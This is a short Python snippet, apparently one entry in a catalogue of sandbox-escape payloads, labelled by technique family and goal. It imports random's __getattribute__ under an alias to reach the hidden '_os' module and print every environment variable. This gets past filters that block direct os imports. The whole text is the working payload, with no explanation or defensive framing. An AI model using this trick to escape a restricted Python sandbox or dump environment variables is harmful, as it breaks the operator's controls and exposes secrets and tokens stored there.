# family: A (a bound __getattribute__)   goal: env
from random import __getattribute__ as ga
print(dict(ga("_os").environ))
